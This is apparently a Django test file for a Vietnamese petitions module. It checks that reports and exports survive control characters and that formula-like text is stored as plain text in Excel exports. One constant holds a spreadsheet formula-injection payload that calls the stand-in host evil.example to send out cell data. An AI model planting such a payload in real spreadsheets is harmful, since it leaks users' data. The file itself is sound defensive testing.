"""Issue 10, findings 9 and 8: the petitions' documents and exports.

- 9: a control character ("\\x08", "\\x01") in a petition's wording, an agency's answer or an
  agency's name no longer makes the synthesis report, the results report (DOCX and XLSX), the
  list export or the cover letter fail: they build, open, and carry the text without it. The
  opinion import (CSV) drops control characters from its cells, as every import.
- 8: a petition or opinion text beginning with "=HYPERLINK(...)" is text, not a formula, in
  every Excel export of the module (stored as a string, with the quote prefix; no <f> element).
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dancu.core.documents import docx_text
from dancu.directory.models import Body
from dancu.petitions import services
from dancu.petitions.importing import read_opinion_file
from dancu.petitions.models import Answer, Petition

from .factories import forward

pytestmark = pytest.mark.django_db

CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture
def answered(pworld):
    """Both petitions forwarded (to the responder's agency and to the ministry), one answered."""
    w = pworld
    petitions = services.consolidate_round(actor=w["specialist"], round=w["round"])
    services.round_confirm_all(actor=w["specialist"], round=w["round"])
    first, second = (Petition.objects.get(pk=p.pk) for p in petitions)
    batch = forward(w, w["agri"], [first], "16/VP-TH")
    forward(w, w["ministry"], [second], "17/VP-TH")
    answer = services.answer_submit(
        actor=w["responder"], batch=batch, petition=first, text="Đã giải quyết.", status="resolved"
    )
    return {**w, "first": first, "second": second, "batch": batch, "answer": answer}


def _downloads(w) -> dict[str, str]:
    rnd = w["round"].pk
    return {
        "synthesis.docx": reverse("petitions:report_synthesis", args=[rnd]),
        "synthesis.xlsx": reverse("petitions:report_synthesis", args=[rnd]) + "?format=xlsx",
        "results.docx": reverse("petitions:report_results", args=[rnd]) + "?format=docx",
        "results.xlsx": reverse("petitions:report_results", args=[rnd]) + "?format=xlsx",
        "list.xlsx": reverse("petitions:petition_export"),
        "letter.docx": reverse("petitions:batch_letter", args=[w["batch"].pk]),
    }


def _get(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert (
        response["Content-Disposition"].startswith("attachment")
        and response["X-Content-Type-Options"] == "nosniff"
    )
    return b"".join(response.streaming_content)


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _xlsx_text(data: bytes) -> str:
    return "\n".join(str(c.value) for c in _xlsx_cells(data) if c.value is not None)


def test_reports_and_exports_build_with_control_characters(client, answered):
    w = answered
    # Legacy rows, written before input was cleaned (no form or service strips them here).
    Petition.objects.filter(pk=w["first"].pk).update(text="Sửa\x08 cầu\x01 treo thôn 3 bị sập")
    Petition.objects.filter(pk=w["second"].pk).update(text="Cấp sổ đỏ\x0b chậm\x1f")
    Answer.objects.filter(pk=w["answer"].pk).update(text="Đã\x08 sửa\x01 xong cầu")
    Body.objects.filter(pk=w["agri"].pk).update(name="Sở Nông nghiệp\x08 và Môi trường\x01")
    client.force_login(w["specialist"])
    for name, url in _downloads(w).items():
        data = _get(client, url)
        text = docx_text(data) if name.endswith(".docx") else _xlsx_text(data)
        assert not CONTROL.search(text), name
        if name.startswith(("synthesis", "list", "letter")):
            assert "Sửa cầu treo thôn 3 bị sập" in text, name
        if name.startswith("results"):
            assert "Sở Nông nghiệp và Môi trường" in text, name
    listed = _xlsx_text(_get(client, _downloads(w)["list.xlsx"]))
    assert "Đã sửa xong cầu" in listed and "Cấp sổ đỏ chậm" in listed


def test_the_list_export_follows_the_scope_and_filters(client, answered, make_user, other_office):
    w = answered
    client.force_login(w["specialist"])
    url = reverse("petitions:petition_export")
    everything = _xlsx_text(_get(client, url))
    assert w["first"].code in everything and w["second"].code in everything
    assert "Đã giải quyết." in everything
    only = _xlsx_text(_get(client, url + f"?agency={w['ministry'].pk}"))
    assert w["second"].code in only and w["first"].code not in only
    client.force_login(make_user("office_admin", other_office))
    assert w["first"].code not in _xlsx_text(_get(client, url))
    client.force_login(w["responder"])  # no petitions.view
    assert client.get(url).status_code == 403


def test_an_opinion_csv_loses_its_control_characters(pworld):
    rows, errors = read_opinion_file("text,area\nĐường\x08 hỏng\x01 nặng,Thôn\x1b 2\n".encode(), "y_kien.csv")
    assert not errors and rows == [{"text": "Đường hỏng nặng", "area": "Thôn 2"}]
    w = pworld
    created = services.opinions_add(
        actor=w["specialist"], meeting=w["m1"], rows=[{"text": "Cầu\x08 yếu", "voter_label": "Tổ\x01 5"}]
    )
    assert (created[0].text, created[0].voter_label) == ("Cầu yếu", "Tổ 5")


def _formula_cells(data: bytes) -> list:
    return [c for c in _xlsx_cells(data) if isinstance(c.value, str) and c.value.startswith("=")]


def test_a_formula_in_a_petition_or_opinion_is_text_in_every_excel_export(client, pworld):
    w = pworld
    services.opinions_add(actor=w["specialist"], meeting=w["m2"], rows=[{"text": INJECTION}])
    petitions = services.consolidate_round(actor=w["specialist"], round=w["round"])
    injected = next(p for p in petitions if p.text.startswith("=HYPERLINK"))  # the opinion's wording
    services.round_confirm_all(actor=w["specialist"], round=w["round"])
    Body.objects.filter(pk=w["agri"].pk).update(name="=1+2 Sở Nông nghiệp")
    batch = forward(w, w["agri"], [Petition.objects.get(pk=injected.pk)])
    services.answer_submit(
        actor=w["responder"], batch=batch, petition=injected, text='=HYPERLINK("x")', status="explained"
    )
    client.force_login(w["specialist"])
    exports = {k: v for k, v in _downloads({**w, "batch": batch}).items() if k.endswith(".xlsx")}
    assert set(exports) == {"synthesis.xlsx", "results.xlsx", "list.xlsx"}
    for name, url in exports.items():
        data = _get(client, url)
        cells = _formula_cells(data)
        assert cells, name
        for cell in cells:
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, cell.value)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets), name
    values = [c.value for c in _formula_cells(_get(client, exports["list.xlsx"]))]
    assert INJECTION in values and '=HYPERLINK("x")' in values
    assert INJECTION in [c.value for c in _formula_cells(_get(client, exports["synthesis.xlsx"]))]
